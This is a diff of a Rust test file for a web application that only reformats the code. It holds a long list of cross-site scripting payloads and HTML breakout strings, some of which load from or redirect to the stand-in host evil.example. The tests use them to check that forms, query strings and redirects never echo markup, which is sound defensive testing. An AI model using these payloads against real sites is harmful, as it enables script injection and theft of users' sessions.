@@ -10,21 +10,78 @@ const HARMLESS: &str = "harmless";
 /// Ways to break out, and what to do then.
 fn vectors() -> Vec<String> {
     let outs = [
-        "", "\"", "'", "\">", "'>", "</textarea>", "</title>", "</script>", "-->", "`", "\\\"", "&quot;>", "&#34;>", "\u{ff1c}",
-        "%22%3E", "{{", "{{{", "\n", "\u{2028}", "]]>", "</main>", "</form>", "</option></select>", "</p></article>",
+        "",
+        "\"",
+        "'",
+        "\">",
+        "'>",
+        "</textarea>",
+        "</title>",
+        "</script>",
+        "-->",
+        "`",
+        "\\\"",
+        "&quot;>",
+        "&#34;>",
+        "\u{ff1c}",
+        "%22%3E",
+        "{{",
+        "{{{",
+        "\n",
+        "\u{2028}",
+        "]]>",
+        "</main>",
+        "</form>",
+        "</option></select>",
+        "</p></article>",
     ];
     let acts = [
-        "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example></script>", "<img src=x onerror=alert(1)>",
-        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>",
-        "<a href=javascript:alert(1)>x</a>", " onfocus=alert(1) autofocus=", "<input onfocus=alert(1) autofocus>",
-        "<form action=//evil.example><button>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
-        "<link rel=stylesheet href=//evil.example>", "<style>*{display:none}</style>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
-        "<marquee onstart=alert(1)>", "<button formaction=//evil.example>", "<textarea autofocus onfocus=alert(1)>", "<isindex action=javascript:alert(1)>",
-        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example",
-        "<!--<img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>", "<?xml version=\"1.0\"?>", "{{constructor}}", "{{#with site}}{{csrf}}{{/with}}",
-        "{{html body}}", "${alert(1)}", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-        "<x onpointerenter=alert(1)>", "<plaintext>", "<svg/onload=alert(1)//", "<<script>alert(1)//<</script>", "\u{202e}<script>alert(1)</script>", "<img src=`x`onerror=alert(1)>",
+        "<script>alert(1)</script>",
+        "<ScRiPt>alert(1)</sCrIpT>",
+        "<script src=//evil.example></script>",
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<iframe src=javascript:alert(1)>",
+        "<body onload=alert(1)>",
+        "<a href=javascript:alert(1)>x</a>",
+        " onfocus=alert(1) autofocus=",
+        "<input onfocus=alert(1) autofocus>",
+        "<form action=//evil.example><button>",
+        "<base href=//evil.example>",
+        "<meta http-equiv=refresh content=0;url=//evil.example>",
+        "<link rel=stylesheet href=//evil.example>",
+        "<style>*{display:none}</style>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<details open ontoggle=alert(1)>",
+        "<video><source onerror=alert(1)>",
+        "<object data=javascript:alert(1)>",
+        "<embed src=javascript:alert(1)>",
+        "<marquee onstart=alert(1)>",
+        "<button formaction=//evil.example>",
+        "<textarea autofocus onfocus=alert(1)>",
+        "<isindex action=javascript:alert(1)>",
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(1)",
+        "java\tscript:alert(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "vbscript:x",
+        "//evil.example",
+        "<!--<img src=x onerror=alert(1)>",
+        "<![CDATA[<script>alert(1)</script>",
+        "<?xml version=\"1.0\"?>",
+        "{{constructor}}",
+        "{{#with site}}{{csrf}}{{/with}}",
+        "{{html body}}",
+        "${alert(1)}",
+        "<template><script>alert(1)</script></template>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<x onpointerenter=alert(1)>",
+        "<plaintext>",
+        "<svg/onload=alert(1)//",
+        "<<script>alert(1)//<</script>",
+        "\u{202e}<script>alert(1)</script>",
+        "<img src=`x`onerror=alert(1)>",
     ];
     outs.iter().flat_map(|out| acts.iter().map(move |act| format!("{out}{act}"))).collect()
 }
@@ -62,7 +119,8 @@ fn difference(harmless: &[html::Tag], hostile: &[html::Tag]) -> Option<String> {
         }
         for ((name, before), (_, after)) in one.attributes.iter().zip(&other.attributes) {
             // Only fields' values may hold what was typed; links may carry it after their path.
-            let may_differ = before.contains(HARMLESS) && (name == "value" || (before.starts_with('/') && after.starts_with('/') && !after.starts_with("//")));
+            let may_differ = before.contains(HARMLESS)
+                && (name == "value" || (before.starts_with('/') && after.starts_with('/') && !after.starts_with("//")));
             if before != after && !may_differ {
                 return Some(format!("{name}={after:?} instead of {before:?} in <{}>", one.name));
             }
@@ -80,12 +138,18 @@ async fn check(field: &str, send: impl AsyncFn(&str) -> Answer) {
         let answer = send(&vector).await;
         assert!(answer.status < 500, "{field}: {vector:?} → {}", answer.status);
         if let Some(to) = answer.location() {
-            assert!(to.starts_with('/') && !to.starts_with("//") && !to.contains(['\n', '\r', '\\']), "{field}: {vector:?} → {to}");
+            assert!(
+                to.starts_with('/') && !to.starts_with("//") && !to.contains(['\n', '\r', '\\']),
+                "{field}: {vector:?} → {to}"
+            );
             continue;
         }
         if answer.status != harmless.status {
             // Another page than the one that echoes, such as an error page: it must not echo either.
-            assert!(!answer.text().contains(&vector) || !vector.contains('<'), "{field}: {vector:?} stands in an error page");
+            assert!(
+                !answer.text().contains(&vector) || !vector.contains('<'),
+                "{field}: {vector:?} stands in an error page"
+            );
             continue;
         }
         pages += 1;
@@ -110,7 +174,9 @@ async fn check_posted(browser: &Browser<'_>, path: &str, field: &str, others: &[
 async fn the_sign_up_form_echoes_text_only() {
     let app = App::new().await;
     check_posted(&app.visitor(), "/sign-up", "name", &[("password", "x"), ("invitation", "")]).await;
-    lontar::store::settings::set_registration(app.store(), lontar::domain::account::Registration::ByInvitation).await.unwrap();
+    lontar::store::settings::set_registration(app.store(), lontar::domain::account::Registration::ByInvitation)
+        .await
+        .unwrap();
     check_posted(&app.visitor(), "/sign-up", "invitation", &[("password", "x"), ("name", "x")]).await;
 }
 
@@ -146,9 +212,13 @@ async fn addresses_are_echoed_as_addresses_only() {
             browser.get(&format!("/courses?area={text}&language={text}&hours={text}&{text}={text}")).await
         })
         .await;
-        check("the query of /about", async |vector: &str| browser.get(&format!("/about?x={}", percent(vector))).await).await;
+        check("the query of /about", async |vector: &str| browser.get(&format!("/about?x={}", percent(vector))).await)
+            .await;
     }
-    check("the number of a certificate", async |vector: &str| visitor.get(&format!("/verify?number={}", percent(vector))).await).await;
+    check("the number of a certificate", async |vector: &str| {
+        visitor.get(&format!("/verify?number={}", percent(vector))).await
+    })
+    .await;
 }
 
 #[rocket::async_test]
